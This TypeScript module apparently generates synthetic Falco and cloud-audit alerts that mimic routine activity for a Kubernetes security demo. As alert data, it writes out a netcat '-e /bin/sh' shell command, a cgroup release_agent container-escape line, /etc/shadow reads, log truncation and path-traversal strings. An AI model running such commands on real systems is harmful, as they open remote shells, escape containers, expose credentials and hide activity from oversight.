// Everyday activity, the baseline the demo cluster raises: each scenario makes the alerts of one
// incident from its context.
import { chance, DAY_MS, hex, int, k8sSuffix, pick, weighted } from './rng';
import {
  ADMINS,
  AUDIT_HOST,
  byKind,
  childOf,
  CI_HOST,
  CLOUD_HOST,
  type Container,
  EKS_ECR,
  EXEC_TARGETS,
  execParents,
  hostAt,
  HOSTS,
  K8S_PEOPLE,
  loginShell,
  mainChain,
  pickContainer,
  pidStartedAgo,
  proc,
  ROOT,
  RUNNER_HELPER,
  sshdListener,
  sudo,
  sudoed,
  sudoRoot,
  SYSTEMD,
  tool,
} from './cluster';
import {
  type AlertSpec,
  API_SERVER,
  AWS_ACCOUNT,
  BROWSER_AGENT,
  connection,
  ctFields,
  type Ctx,
  disallowedUser,
  droppedBinary,
  ephemeralPort,
  GCLOUD_AGENT,
  GCP_PROJECT,
  gcpFields,
  GITLAB_SSH,
  openat,
  pluginAlert,
  rbacReason,
  syscall,
  syscallDrop,
  TERRAFORM_AGENT,
} from './render';

export type Scenario = (ctx: Ctx) => AlertSpec[];

/** Someone runs `kubectl exec -it … -- bash`: the audit event, the shell, sometimes what they did next. */
export const execSession: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = weighted(rng, EXEC_TARGETS);
  const person = pick(rng, K8S_PEOPLE);
  const shellName = pick(rng, c.profile.shells);
  const user = c.profile.execUser ?? c.profile.user;
  const tty = 34816 + int(rng, 0, 6);
  const parents = execParents(c, ctx.tMs, rng);
  const session = [childOf(parents, tool(c.profile.base, shellName), rng), ...parents];
  const alerts = [
    pluginAlert(ctx, 'Attach/Exec Pod', AUDIT_HOST, {
      'ka.user.name': person,
      'ka.target.name': c.pod,
      'ka.target.resource': 'pods',
      'ka.target.namespace': c.ns,
      'ka.target.subresource': 'exec',
      'ka.uri.param[command]': shellName,
    }),
  ];
  // runc clones itself into a memfd on every exec; some nodes' Falco flags it.
  if (chance(rng, 0.12)) alerts.push(runcMemfd(ctx, c, int(rng, 20, 90)));
  alerts.push(
    syscall(ctx, 'Terminal shell in container', c, { chain: session, user, tty, offsetMs: int(rng, 120, 450) }),
  );

  const next = { user, tty, offsetMs: int(rng, 5_000, 600_000) };
  const base = c.profile.base;
  if (c.profile.kind === 'postgres' && chance(rng, 0.5)) {
    const psql = tool(base, 'psql');
    alerts.push(
      syscall(ctx, 'System user interactive', c, {
        ...next,
        chain: [psql, tool(base, 'su', 'postgres -c psql'), ...session],
        user: c.profile.user,
      }),
    );
  } else if (c.profile.kind === 'netshoot' && chance(rng, 0.6)) {
    const filter = pick(rng, ['port 53', 'host 10.0.12.77', 'tcp port 5432', 'port 9092']);
    alerts.push(
      syscall(ctx, 'Packet socket created in container', c, {
        ...next,
        chain: [tool(base, 'tcpdump', `-i eth0 -nn ${filter}`), ...session],
        fields: {
          'evt.type': 'socket',
          'evt.args': 'fd=3(<p>) domain=17(AF_PACKET) type=3 proto=768',
          'fd.name': '',
          'fd.lport': null,
          'fd.rport': null,
          'fd.type': '<NA>',
          'fd.l4proto': '<NA>',
        },
      }),
    );
  } else if (c.profile.kind === 'python' && chance(rng, 0.3)) {
    const worker = mainChain(c, ctx.tMs)[0]?.pid ?? 1;
    alerts.push(
      syscall(ctx, 'PTRACE attached to process', c, {
        ...next,
        user: ROOT,
        chain: [tool(base, 'py-spy', `dump --pid ${worker}`), ...session],
        fields: { 'evt.type': 'ptrace' },
      }),
    );
  } else if (chance(rng, 0.12)) {
    // Root reads it directly; an image user goes through sudo (containerd-shim → runc → bash → sudo →
    // cat). Debian's sudo has no use_pty by default, so there is one sudo, not the pair seen on nodes.
    const file = pick(rng, ['/etc/shadow', '/etc/shadow', '/etc/sudoers']);
    const cat = tool(base, 'cat', file);
    if (user.uid === 0)
      alerts.push(
        syscall(ctx, 'Read sensitive file untrusted', c, { ...next, chain: [cat, ...session], fields: openat(file) }),
      );
    else if (base === 'debian')
      alerts.push(
        syscall(ctx, 'Read sensitive file untrusted', c, {
          ...next,
          user: ROOT,
          chain: [cat, sudo(cat), ...session],
          fields: openat(file),
        }),
      );
  }
  return alerts;
};

function runcMemfd(ctx: Ctx, c: Container, offsetMs: number): AlertSpec {
  const { rng } = ctx;
  const task = `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${c.fullId}`;
  const runc = proc(
    '.runc',
    'memfd:runc',
    `--root /run/containerd/runc/k8s.io --log ${task}/log.json --log-format json exec --process /tmp/runc-process${int(rng, 100_000_000, 3_999_999_999)} --detach --pid-file ${task}/${hex(rng, 64)}.pid ${c.fullId}`,
  );
  return syscall(ctx, 'Fileless execution via memfd_create', c.host, {
    chain: [runc],
    user: ROOT,
    offsetMs,
    cwd: '',
    fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_FROM_MEMFD', 'proc.sname': '' },
  });
}

/** An admin reads a protected file on a node with sudo (tmux → bash → sudo → sudo → cat). */
export const adminSudo: Scenario = (ctx) => {
  const { rng } = ctx;
  const host = pick(rng, HOSTS);
  const admin = pick(rng, ADMINS);
  const shell = loginShell(host, admin, ctx.tMs, rng);
  const tty = 34816 + int(rng, 0, 4);
  const [command, file] = weighted(rng, [
    [5, ['cat', '/etc/shadow']],
    [2, ['less', '/etc/sudoers']],
    [1, ['grep', '/etc/shadow']],
    [1, ['cat', '/etc/sudoers.d/90-cloud-init-users']],
  ] as const);
  const args = command === 'grep' ? `-E ^(ec2-user|${admin.name}): ${file}` : file;
  const alerts = [
    syscall(ctx, 'Read sensitive file untrusted', host, {
      chain: sudoed(tool('amazonlinux', command, args), shell),
      user: sudoRoot(admin),
      tty,
      fields: openat(file),
    }),
  ];
  if (chance(rng, 0.15)) {
    const log = pick(rng, ['/var/log/messages', '/var/log/secure', '/var/log/aws-routed-eni/ipamd.log']);
    alerts.push(
      syscall(ctx, 'Clear Log Activities', host, {
        chain: sudoed(tool('amazonlinux', 'truncate', `-s 0 ${log}`), shell),
        user: sudoRoot(admin),
        tty,
        offsetMs: int(rng, 20_000, 300_000),
        fields: openat(log),
      }),
    );
  } else if (chance(rng, 0.1)) {
    const target = pick(rng, ['kubelet', 'containerd', 'aws-k8s-agent']);
    alerts.push(
      syscall(ctx, 'PTRACE attached to process', host, {
        chain: sudoed(
          tool(
            'amazonlinux',
            'strace',
            `-f -tt -p ${pidStartedAgo(host, ctx.tMs, 3 * DAY_MS)} -o /tmp/${target}.trace`,
          ),
          shell,
        ),
        user: sudoRoot(admin),
        tty,
        offsetMs: int(rng, 20_000, 300_000),
        fields: { 'evt.type': 'ptrace' },
      }),
    );
  } else if (chance(rng, 0.04)) {
    alerts.push(
      syscall(ctx, 'Create Hardlink Over Sensitive Files', host, {
        chain: sudoed(tool('amazonlinux', 'ln', '/etc/shadow /root/shadow.bak'), shell),
        user: sudoRoot(admin),
        tty,
        offsetMs: int(rng, 20_000, 300_000),
        fields: { 'evt.type': 'linkat', 'evt.arg.oldpath': '/etc/shadow', 'evt.arg.newpath': '/root/shadow.bak' },
      }),
    );
  }
  return alerts;
};

/** sshd re-reads /etc/shadow for every login long after it started. */
export const sshLogin: Scenario = (ctx) => {
  const host = pick(ctx.rng, HOSTS);
  const chain = [proc('sshd', '/usr/sbin/sshd', '-D -R'), sshdListener(host), SYSTEMD];
  return [
    syscall(ctx, 'Read sensitive file trusted after startup', host, {
      chain,
      user: ROOT,
      cwd: '/',
      fields: openat('/etc/shadow'),
    }),
  ];
};

/** strace launching a program makes the program call PTRACE_TRACEME. */
export const straceRun: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'netshoot');
  const url = pick(rng, [
    'http://checkout-web.checkout.svc:8080/healthz',
    'http://payments-api.payments.svc:8080/actuator/health',
    'https://kubernetes.default.svc/version',
  ]);
  const curl = tool(c.profile.base, 'curl', `-sS -m 5 ${url}`);
  const chain = [
    curl,
    tool(c.profile.base, 'strace', `-f -e trace=network ${curl.cmdline}`),
    tool(c.profile.base, 'bash'),
    ...execParents(c, ctx.tMs, rng),
  ];
  return [
    syscall(ctx, 'PTRACE anti-debug attempt', c, {
      chain,
      user: ROOT,
      tty: 34816 + int(rng, 0, 4),
      fields: { 'evt.type': 'ptrace' },
    }),
  ];
};

/** Someone tests an egress policy from the netshoot pod with a classic bind shell. */
export const netcatTest: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'netshoot');
  const nc = tool(c.profile.base, 'nc', `-e /bin/sh 10.0.3.${int(rng, 5, 60)} ${pick(rng, [9001, 4444, 8443])}`);
  return [
    syscall(ctx, 'Netcat Remote Code Execution in Container', c, {
      chain: [nc, tool(c.profile.base, 'bash'), ...execParents(c, ctx.tMs, rng)],
      user: ROOT,
      tty: 34817,
    }),
  ];
};

/** `kubectl debug node/…`: a privileged pod with the node's root filesystem mounted. */
export const nodeDebug: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'node-debugger');
  const person = pick(rng, K8S_PEOPLE);
  const alerts = [
    pluginAlert(ctx, 'Create Sensitive Mount Pod', AUDIT_HOST, {
      'ka.user.name': person,
      'ka.resp.name': c.pod,
      'ka.target.namespace': c.ns,
      'ka.target.resource': 'pods',
      'ka.req.pod.containers.image': [`${c.repo}:${c.tag}`],
      'jevt.value[/requestObject/spec/volumes]': JSON.stringify([
        { hostPath: { path: '/', type: '' }, name: 'host-root' },
        { name: 'kube-api-access-2xq7k', projected: { defaultMode: 420 } },
      ]),
    }),
  ];
  if (chance(rng, 0.08)) {
    // A red-team exercise: the classic cgroup v1 release_agent escape from a privileged pod.
    alerts.push(
      syscall(ctx, 'Detect release_agent File Container Escapes', c, {
        chain: [tool('debian', 'sh', '-c echo /cmd > /tmp/cgrp/release_agent'), ...mainChain(c, ctx.tMs)],
        user: ROOT,
        tty: 34816,
        offsetMs: int(rng, 30_000, 400_000),
        fields: openat('/tmp/cgrp/release_agent'),
      }),
    );
  } else if (chance(rng, 0.5)) {
    const device = pick(rng, ['/dev/nvme0n1p1', '/dev/nvme1n1']);
    alerts.push(
      syscall(ctx, 'Debugfs Launched in Privileged Container', c, {
        chain: [tool('debian', 'debugfs', `-R stats ${device}`), ...mainChain(c, ctx.tMs)],
        user: ROOT,
        tty: 34816,
        offsetMs: int(rng, 30_000, 400_000),
      }),
    );
  }
  return alerts;
};

export const secretGet: Scenario = (ctx) => {
  const { rng } = ctx;
  const [ns, secret] = pick(rng, [
    ['payments', 'payments-db-credentials'],
    ['payments', 'stripe-api-key'],
    ['data', 'postgres-superuser'],
    ['checkout', 'session-signing-key'],
  ] as const);
  return [
    pluginAlert(ctx, 'K8s Secret Get Successfully', AUDIT_HOST, {
      'ka.user.name': pick(rng, K8S_PEOPLE),
      'ka.target.name': secret,
      'ka.target.namespace': ns,
      'ka.target.resource': 'secrets',
      'ka.response.code': '200',
      'ka.auth.decision': 'allow',
      'ka.auth.reason': rbacReason('ClusterRoleBinding "oncall-admins"', 'cluster-admin', 'Group "oncall"'),
    }),
  ];
};

export const nodePortService: Scenario = (ctx) => {
  const { rng } = ctx;
  const [name, port] = pick(rng, [
    ['grafana-debug', 3000],
    ['kafka-external', 9094],
    ['postgres-tmp', 5432],
  ] as const);
  return [
    pluginAlert(ctx, 'Create NodePort Service', AUDIT_HOST, {
      'ka.user.name': pick(rng, K8S_PEOPLE),
      'ka.target.name': name,
      'ka.target.resource': 'services',
      'ka.target.namespace': name.startsWith('grafana') ? 'monitoring' : 'data',
      'ka.req.service.ports': JSON.stringify([
        { nodePort: int(rng, 30_000, 32_767), port, protocol: 'TCP', targetPort: port },
      ]),
    }),
  ];
};

const AWS_PEOPLE = [
  ['AWSReservedSSO_AdministratorAccess_4f1c2b8e9a7d3c65/priya@example.com', '203.0.113.24'],
  ['AWSReservedSSO_PowerUserAccess_0c9d8e7f6a5b4c3d/marek@example.com', '203.0.113.61'],
  ['alice', '203.0.113.24'],
  ['terraform-ci', '54.204.12.87'],
] as const;

export const awsEveryday: Scenario = (ctx) => {
  const { rng } = ctx;
  const [user, ip] = pick(rng, AWS_PEOPLE);
  const region = weighted(rng, [
    [8, 'us-east-1'],
    [2, 'eu-west-1'],
  ] as const);
  const bucket = pick(rng, [
    'acme-prod-artifacts',
    'acme-prod-backups',
    'acme-analytics-exports',
    'acme-terraform-state',
  ]);
  return [
    weighted(rng, [
      [
        4,
        () =>
          pluginAlert(
            ctx,
            'List Buckets',
            CLOUD_HOST,
            ctFields(user, ip, region, { 'ct.request.host': `s3.${region}.amazonaws.com` }),
          ),
      ],
      [
        2,
        () =>
          pluginAlert(
            ctx,
            'Put Bucket Policy',
            CLOUD_HOST,
            ctFields(user, ip, region, {
              's3.bucket': bucket,
              'ct.request.policy': JSON.stringify({
                Version: '2012-10-17',
                Statement: [
                  {
                    Sid: 'AllowCIRead',
                    Effect: 'Allow',
                    Principal: { AWS: `arn:aws:iam::${AWS_ACCOUNT}:role/gitlab-runner` },
                    Action: ['s3:GetObject', 's3:ListBucket'],
                    Resource: [`arn:aws:s3:::${bucket}`, `arn:aws:s3:::${bucket}/*`],
                  },
                ],
              }),
            }),
          ),
      ],
      [
        1,
        () =>
          pluginAlert(
            ctx,
            'Create AWS user',
            CLOUD_HOST,
            ctFields(user, ip, region, {
              'ct.request.username': pick(rng, [
                'svc-reporting',
                'ci-artifacts-reader',
                'contractor-jdoe',
                'backup-exporter',
              ]),
            }),
          ),
      ],
      [
        1,
        () =>
          pluginAlert(
            ctx,
            'Console Login Without MFA',
            CLOUD_HOST,
            ctFields(pick(rng, ['bob', 'breakglass-admin']), pick(rng, ['203.0.113.61', '192.0.2.140']), 'us-east-1'),
          ),
      ],
      [
        0.15,
        () =>
          pluginAlert(
            ctx,
            'Delete Bucket Public Access Block',
            CLOUD_HOST,
            ctFields(user, ip, region, { 's3.bucket': 'acme-public-assets' }),
          ),
      ],
      [
        0.1,
        () =>
          pluginAlert(
            ctx,
            'CloudTrail Logging Disabled',
            CLOUD_HOST,
            ctFields(user, ip, region, { 'ct.request.name': 'acme-staging-trail' }),
          ),
      ],
    ] as const)(),
  ];
};

const GCP_PEOPLE = [
  ['priya@example.com', '203.0.113.24', GCLOUD_AGENT],
  ['terraform@acme-analytics-prod.iam.gserviceaccount.com', '34.138.20.77', TERRAFORM_AGENT],
  ['bob@example.com', '203.0.113.61', BROWSER_AGENT],
] as const;

export const gcpEveryday: Scenario = (ctx) => {
  const { rng } = ctx;
  const [user, ip, agent] = pick(rng, GCP_PEOPLE);
  const bucket = pick(rng, ['acme-analytics-raw', 'acme-analytics-exports', 'acme-ml-models']);
  const account = pick(rng, ['dataflow-runner', 'looker-reader', 'airflow-worker']);
  const email = `${account}@${GCP_PROJECT}.iam.gserviceaccount.com`;
  return [
    weighted(rng, [
      [
        3,
        () =>
          pluginAlert(
            ctx,
            'GCP Bucket enumerated',
            CLOUD_HOST,
            gcpFields(
              user,
              ip,
              agent,
              'storage.objects.list',
              `projects/_/buckets/${bucket}`,
              {},
              { 'gcp.storage.bucket': bucket },
            ),
          ),
      ],
      [
        1.5,
        () =>
          pluginAlert(
            ctx,
            'GCP IAM service account key created',
            CLOUD_HOST,
            gcpFields(user, ip, agent, 'iam.serviceAccountKeys.create', `projects/-/serviceAccounts/${email}`, {
              '@type': 'type.googleapis.com/google.iam.admin.v1.CreateServiceAccountKeyRequest',
              name: `projects/-/serviceAccounts/${email}`,
              private_key_type: 2,
            }),
          ),
      ],
      [
        1,
        () =>
          pluginAlert(
            ctx,
            'GCP IAM policy modified',
            CLOUD_HOST,
            gcpFields(
              user,
              ip,
              agent,
              'resourcemanager.projects.setIamPolicy',
              `projects/${GCP_PROJECT}`,
              { '@type': 'type.googleapis.com/google.iam.v1.SetIamPolicyRequest', resource: GCP_PROJECT },
              {
                'gcp.policyDelta': JSON.stringify([
                  {
                    action: 'ADD',
                    member: `serviceAccount:${email}`,
                    role: pick(rng, [
                      'roles/bigquery.dataViewer',
                      'roles/storage.objectViewer',
                      'roles/dataflow.worker',
                    ]),
                  },
                ]),
              },
            ),
          ),
      ],
      [
        1,
        () =>
          pluginAlert(
            ctx,
            'GCP GCE Firewall rule modified',
            CLOUD_HOST,
            gcpFields(
              user,
              ip,
              agent,
              'compute.firewalls.update',
              `projects/${GCP_PROJECT}/global/firewalls/allow-airflow-web`,
              {
                '@type': 'type.googleapis.com/compute.firewalls.update',
                name: 'allow-airflow-web',
                sourceRanges: ['203.0.113.0/24'],
                allowed: [{ IPProtocol: 'tcp', ports: ['8080'] }],
              },
            ),
          ),
      ],
      [
        0.1,
        () =>
          pluginAlert(
            ctx,
            'GCP Bucket configured to be public',
            CLOUD_HOST,
            gcpFields(
              user,
              ip,
              agent,
              'storage.buckets.setIamPolicy',
              'projects/_/buckets/acme-public-datasets',
              {
                '@type': 'type.googleapis.com/google.iam.v1.SetIamPolicyRequest',
                resource: 'projects/_/buckets/acme-public-datasets',
              },
              {
                'gcp.policyDelta': JSON.stringify([
                  { action: 'ADD', member: 'allUsers', role: 'roles/storage.objectViewer' },
                ]),
                'gcp.storage.bucket': 'acme-public-datasets',
              },
            ),
          ),
      ],
    ] as const)(),
  ];
};

/** Apps that talk to the API server (leader election, config reload, the CI runner starting pods). */
export const apiServerContact: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = weighted(rng, [
    [4, pickContainer(rng, 'runner')],
    [3, pickContainer(rng, 'java')],
    [2, pickContainer(rng, 'python')],
  ] as const);
  return [
    syscall(ctx, 'Contact K8S API Server From Container', c, {
      chain: mainChain(c, ctx.tMs),
      user: c.profile.user,
      fields: connection(rng, c.ip, API_SERVER, 443),
    }),
  ];
};

/** Kafka's exec readiness probe opens a bash /dev/tcp socket. */
export const kafkaProbe: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'kafka');
  const bash = tool(c.profile.base, 'bash', '-c exec 3<>/dev/tcp/127.0.0.1/9092 && echo ok >&3');
  const client = ephemeralPort(rng);
  return [
    syscall(ctx, 'Redirect STDOUT/STDIN to Network Connection in Container', c, {
      chain: [bash, ...execParents(c, ctx.tMs, rng)],
      user: c.profile.user,
      fields: {
        'evt.type': 'dup2',
        'fd.name': `127.0.0.1:${client}->127.0.0.1:9092`,
        'fd.sip': '127.0.0.1',
        'fd.lport': 9092,
        'fd.rport': client,
        'fd.type': 'ipv4',
        'fd.l4proto': 'tcp',
      },
    }),
  ];
};

/** Python's platform module shells out to `uname -p`, and Java apps run helper scripts. */
export const appShell: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'python', 'python', 'java');
  const command =
    c.profile.kind === 'python'
      ? '-c uname -p 2> /dev/null'
      : pick(rng, ['-c ulimit -n', '-c df -Pk /tmp', '-c /app/bin/rotate-keys.sh --quiet']);
  return [
    syscall(ctx, 'Run shell untrusted', c, {
      chain: [tool(c.profile.base, 'sh', command), ...mainChain(c, ctx.tMs)],
      user: c.profile.user,
    }),
  ];
};

const SYSTEM_CONTROLLERS = [
  [
    'system:serviceaccount:kube-system:ebs-csi-controller-sa',
    'update',
    'leases',
    'kube-system',
    'ebs-csi-aws-com',
    '200',
  ],
  ['system:serviceaccount:kube-system:ebs-csi-controller-sa', 'patch', 'nodes', null, 'NODE', '200'],
  ['eks:addon-manager', 'patch', 'configmaps', 'kube-system', 'aws-auth', '200'],
  ['eks:node-manager', 'patch', 'nodes', null, 'NODE', '200'],
  ['eks:certificate-controller', 'update', 'certificatesigningrequests', null, 'CSR', '200'],
  ['system:serviceaccount:ci:gitlab-runner', 'create', 'pods', 'ci', 'RUNNER', '201'],
  ['system:serviceaccount:ci:gitlab-runner', 'delete', 'pods', 'ci', 'RUNNER', '200'],
  ['system:serviceaccount:monitoring:prometheus-server', 'list', 'endpoints', null, null, '200'],
  ['system:serviceaccount:monitoring:grafana', 'get', 'configmaps', 'monitoring', 'grafana-dashboards', '403'],
] as const;

export const disallowedController: Scenario = (ctx) => {
  const { rng } = ctx;
  const [user, verb, resource, ns, name, code] = pick(rng, SYSTEM_CONTROLLERS);
  const target =
    name === 'NODE'
      ? pick(rng, HOSTS).name
      : name === 'CSR'
        ? `csr-${k8sSuffix(rng, 5)}`
        : name === 'RUNNER'
          ? pickContainer(rng, 'build-go', 'build-node', 'build-python', 'dind').pod
          : name;
  const subresource = resource === 'nodes' ? 'status' : resource === 'certificatesigningrequests' ? 'approval' : '';
  return [disallowedUser(ctx, user, verb, resource, ns, target, code, subresource)];
};

/** New nodes get their DaemonSet pods: created in kube-system by the controller. */
export const kubeSystemPod: Scenario = (ctx) => {
  const { rng } = ctx;
  const [app, images] = pick(rng, [
    [
      'aws-node',
      [`${EKS_ECR}/amazon-k8s-cni:v1.18.1-eksbuild.1`, `${EKS_ECR}/amazon/aws-network-policy-agent:v1.1.1-eksbuild.1`],
    ],
    [
      'ebs-csi-node',
      [
        `${EKS_ECR}/eks/aws-ebs-csi-driver:v1.30.0`,
        `${EKS_ECR}/eks/csi-node-driver-registrar:v2.10.0-eks-1-29-7`,
        `${EKS_ECR}/eks/livenessprobe:v2.12.0-eks-1-29-7`,
      ],
    ],
    ['kube-proxy', [`${EKS_ECR}/eks/kube-proxy:v1.29.3-minimal-eksbuild.2`]],
  ] as const);
  return [
    pluginAlert(ctx, 'Pod Created in Kube Namespace', AUDIT_HOST, {
      'ka.user.name': 'system:serviceaccount:kube-system:daemon-set-controller',
      'ka.resp.name': `${app}-${k8sSuffix(rng, 5)}`,
      'ka.target.resource': 'pods',
      'ka.target.namespace': 'kube-system',
      'ka.req.pod.containers.image': images,
    }),
  ];
};

/** Busy nodes (Kafka, CI builds) occasionally overflow Falco's ring buffer. */
export const dropsNoise: Scenario = (ctx) => {
  const host = weighted(ctx.rng, [
    [3, CI_HOST],
    [2, hostAt(1)],
    [2, hostAt(2)],
    [1, hostAt(4)],
    [0.5, hostAt(0)],
    [0.5, hostAt(3)],
  ]);
  return [syscallDrop(ctx, host, chance(ctx.rng, 0.08))];
};

/** A cron job on the nodes empties the CNI's debug log. */
export const logTrim: Scenario = (ctx) => {
  const host = pick(ctx.rng, HOSTS);
  const log = '/var/log/aws-routed-eni/ipamd.log';
  const chain = [
    tool('amazonlinux', 'truncate', `-s 0 ${log}`),
    tool('amazonlinux', 'sh', '/etc/cron.hourly/trim-cni-logs'),
    proc('crond', '/usr/sbin/crond', '-n'),
    SYSTEMD,
  ];
  return [syscall(ctx, 'Clear Log Activities', host, { chain, user: ROOT, cwd: '/', fields: openat(log) })];
};

/** A scanner probes cart-service (which runs as root) for path traversal. */
export const traversalProbe: Scenario = (ctx) => {
  const c = pick(
    ctx.rng,
    (byKind.get('python') ?? []).filter((python) => python.profile.user.uid === 0),
  );
  const raw = pick(ctx.rng, ['/srv/app/static/../../../etc/shadow', '/srv/app/static/../../../../../../etc/shadow']);
  return [
    syscall(ctx, 'Directory traversal monitored file read', c, {
      chain: mainChain(c, ctx.tMs),
      user: ROOT,
      fields: openat('/etc/shadow', { 'fd.nameraw': raw }),
    }),
  ];
};

// ─── CI ──────────────────────────────────────────────────────────────────────────────────────────

/** The job script: bash is the build container's first process (GitLab's Kubernetes executor). */
const jobShell = (c: Container, tMs: number) => mainChain(c, tMs);

export const ciPrivilegedPod: Scenario = (ctx) => {
  const { rng } = ctx;
  const dind = pickContainer(rng, 'dind');
  const alerts = [
    pluginAlert(ctx, 'Create Privileged Pod', AUDIT_HOST, {
      'ka.user.name': 'system:serviceaccount:ci:gitlab-runner',
      'ka.resp.name': dind.pod,
      'ka.target.resource': 'pods',
      'ka.target.namespace': 'ci',
      'ka.req.pod.containers.image': ['docker.io/library/docker:26.0-cli', RUNNER_HELPER, `${dind.repo}:${dind.tag}`],
      'ka.req.pod.initContainers.image': [RUNNER_HELPER],
      'ka.req.pod.ephemeralContainers.image': null,
    }),
  ];
  if (chance(rng, 0.5)) {
    const module = pick(rng, ['ip_tables', 'iptable_nat', 'overlay', 'br_netfilter']);
    alerts.push(
      syscall(ctx, 'Linux Kernel Module Injection Detected', dind, {
        chain: [tool('alpine', 'modprobe', module), ...mainChain(dind, ctx.tMs)],
        user: ROOT,
        offsetMs: int(rng, 4_000, 20_000),
        fields: { 'evt.type': 'finit_module' },
      }),
    );
  }
  return alerts;
};

/** A freshly built binary runs in the build container: not part of the image, so Critical. */
export const ciDropExecute: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'build-go', 'build-node');
  const cwd = c.profile.cwd;
  if (c.profile.kind === 'build-go') {
    const [name, args] = pick(rng, [
      ['server', '--version'],
      ['ledger-migrate', '--dry-run --config config/ci.yaml'],
      ['ledger-e2e', '-test.v -test.run TestLedger'],
    ] as const);
    const exe = `${cwd}bin/${name}`;
    return [
      syscall(ctx, 'Drop and execute new binary in container', c, {
        chain: [proc(name, exe, args, { argv0: `./bin/${name}` }), ...jobShell(c, ctx.tMs)],
        user: ROOT,
        fields: droppedBinary(ctx, `./bin/${name}`, int(rng, 2_000, 90_000)),
      }),
    ];
  }
  const esbuild = `${cwd}node_modules/@esbuild/linux-x64/bin/esbuild`;
  const vite = proc('node', '/usr/local/bin/node', `${cwd}node_modules/.bin/vite build`);
  const npm = proc('npm run build', '/usr/local/bin/node', '');
  return [
    syscall(ctx, 'Drop and execute new binary in container', c, {
      chain: [
        proc('esbuild', esbuild, '--service=0.20.2 --ping', { argv0: esbuild }),
        vite,
        tool('debian', 'sh', '-c vite build'),
        npm,
        ...jobShell(c, ctx.tMs),
      ],
      user: ROOT,
      fields: droppedBinary(ctx, esbuild, int(rng, 20_000, 200_000)),
    }),
  ];
};

/** npm lifecycle scripts run through sh from node. */
export const ciNpmShell: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'build-node');
  const script = pick(rng, ['-c node install.js', '-c husky install', '-c node-gyp-build', '-c patch-package']);
  const npm = proc('npm ci', '/usr/local/bin/node', '');
  return [
    syscall(ctx, 'Run shell untrusted', c, {
      chain: [tool('debian', 'sh', script), npm, ...jobShell(c, ctx.tMs)],
      user: ROOT,
    }),
  ];
};

/** Private Go modules and submodules come from GitLab's ssh on port 2222. */
export const ciGitSsh: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'build-go', 'build-node', 'build-python');
  const repo = pick(rng, ['acme/shared-protos', 'acme/go-commons', 'acme/design-tokens']);
  const ssh = tool(
    'debian',
    'ssh',
    `-o SendEnv=GIT_PROTOCOL -p 2222 git@gitlab.acme.internal git-upload-pack '${repo}.git'`,
  );
  const git = tool('debian', 'git', `clone --depth 1 ssh://git@gitlab.acme.internal:2222/${repo}.git`);
  return [
    syscall(ctx, 'Disallowed SSH Connection Non Standard Port', c, {
      chain: [ssh, git, ...jobShell(c, ctx.tMs)],
      user: ROOT,
      fields: connection(rng, c.ip, GITLAB_SSH, 2222),
    }),
  ];
};

/** The secret-scanning job greps the repository for keys. */
export const ciSecretScan: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'build-go', 'build-node', 'build-python');
  if (chance(rng, 0.45)) {
    return [
      syscall(ctx, 'Find AWS Credentials', c, {
        chain: [tool('debian', 'grep', '-rIn --exclude-dir=.git aws_secret_access_key .'), ...jobShell(c, ctx.tMs)],
        user: ROOT,
      }),
    ];
  }
  const command = chance(rng, 0.5)
    ? tool('debian', 'grep', '-rIl --exclude-dir=node_modules BEGIN RSA PRIVATE KEY .')
    : tool('debian', 'find', '. -name id_rsa -o -name *.pem -o -name *.key');
  return [
    syscall(ctx, 'Search Private Keys or Passwords', c, { chain: [command, ...jobShell(c, ctx.tMs)], user: ROOT }),
  ];
};

export const ciDeploy: Scenario = (ctx) => {
  const { rng } = ctx;
  const [app, ns] = pick(rng, [
    ['checkout-web', 'checkout'],
    ['cart-service', 'checkout'],
    ['payments-api', 'payments'],
  ] as const);
  return [
    pluginAlert(ctx, 'K8s Deployment Created', AUDIT_HOST, {
      'ka.user.name': 'system:serviceaccount:ci:deployer',
      'ka.target.name': `${app}-pr-${int(rng, 1_200, 1_480)}`,
      'ka.target.namespace': ns,
      'ka.target.resource': 'deployments',
      'ka.response.code': '201',
      'ka.auth.decision': 'allow',
      'ka.auth.reason': `RBAC: allowed by RoleBinding "ci-deployer/${ns}" of ClusterRole "edit" to ServiceAccount "deployer/ci"`,
    }),
  ];
};

export const ciHousekeeping: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = pickContainer(rng, 'build-python', 'build-node');
  const shell = jobShell(c, ctx.tMs);
  return [
    weighted(rng, [
      [
        2,
        () =>
          syscall(ctx, 'Remove Bulk Data from Disk', c, {
            chain: [tool('debian', 'shred', '-u -z deploy/secrets/signing-key.pem'), ...shell],
            user: ROOT,
          }),
      ],
      [
        1.5,
        () =>
          syscall(ctx, 'Create Symlink Over Sensitive Files', c, {
            chain: [tool('debian', 'ln', `-s /etc ${c.profile.cwd}rootfs/etc`), ...shell],
            user: ROOT,
            fields: {
              'evt.type': 'symlinkat',
              'evt.arg.target': '/etc',
              'evt.arg.linkpath': `${c.profile.cwd}rootfs/etc`,
            },
          }),
      ],
      [
        1,
        () => {
          const script = `/dev/shm/playwright-${hex(rng, 6)}/run.sh`;
          return syscall(ctx, 'Execution from /dev/shm', c, {
            chain: [tool('debian', 'sh', `-c ${script}`), ...shell],
            user: ROOT,
            fields: { 'fd.name': script },
          });
        },
      ],
    ] as const)(),
  ];
};
